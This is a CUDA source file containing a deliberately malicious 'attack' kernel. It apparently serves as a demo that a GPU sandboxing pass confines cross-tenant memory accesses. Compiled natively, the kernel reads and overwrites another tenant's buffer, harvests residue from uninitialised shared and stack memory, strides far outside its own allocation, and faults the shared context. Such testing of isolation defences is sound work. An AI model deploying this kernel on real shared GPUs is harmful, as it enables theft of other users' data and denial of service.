// A malicious tenant. Compiled natively, every line of this kernel either reads or
// overwrites another tenant's memory, or faults the shared CUDA context (which, in
// CUDA, ends every tenant). The AToLL passes accept it, because each access can be
// confined, and the hardened kernel can only reach its own arena and its own
// shared/local windows: it runs, it computes garbage, it harms nobody.
//
// victim: the device address of another tenant's buffer, as an integer (the demo
//         service passes the real one, from Pipeline::deviceAddress).
// loot:   the attacker's own output buffer of 4 * n words:
//           [0, n)    words read through the victim address
//           [n, 2n)   uninitialised dynamic shared memory (residue of other kernels)
//           [2n, 3n)  uninitialised stack memory
//           [3n, 4n)  words read up to +-512 MiB away from loot (other allocations)
// Launch with n threads and 32 KiB of dynamic shared memory (smaller is fine: reads
// are confined to whatever window the launch has).

#define ATTACK_TAG 0xA77A0000u

extern "C" __global__ void attack(unsigned long long victim, unsigned int *loot, unsigned int n) {
  extern __shared__ unsigned int smem[]; // never written by this kernel
  unsigned int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i >= n)
    return;

  // 1. Steal: read the victim's words through its raw device address.
  unsigned int *target = reinterpret_cast<unsigned int *>(victim);
  loot[i] = target[i];

  // 2. Vandalise: overwrite them, and write through a misaligned address (natively
  //    a "misaligned address" fault that kills the whole context).
  target[i] = ATTACK_TAG | (i & 0xFFFFu);
  *reinterpret_cast<unsigned int *>(victim + 4ull * i + 1) = ATTACK_TAG | 1u;

  // 3. Residue: read shared memory that this kernel never wrote (on Hopper, natively,
  //    it holds whatever the previous kernel on this SM left there).
  loot[n + i] = smem[(threadIdx.x * 32u + blockIdx.x) % 8192u];

  // 4. Residue: read stack memory that was never written (the store below never
  //    happens at run time, but keeps the array in local memory).
  unsigned int stack[64];
  if (n == 0xFFFFFFFFu)
    stack[i & 63u] = i;
  loot[2 * n + i] = stack[(i * 7u) & 63u];

  // 5. Stride far outside the own buffer, both ways (up to +-512 MiB): natively this
  //    reads and overwrites other allocations, or faults on unmapped memory.
  long long k = (long long)(i % 64u) - 32;
  long long far = k * (16ll << 20) / 4; // in words: k * 16 MiB
  loot[3 * n + i] = loot[(long long)i + far];
  loot[(long long)i - far - (8ll << 20)] = ATTACK_TAG | 2u;
}
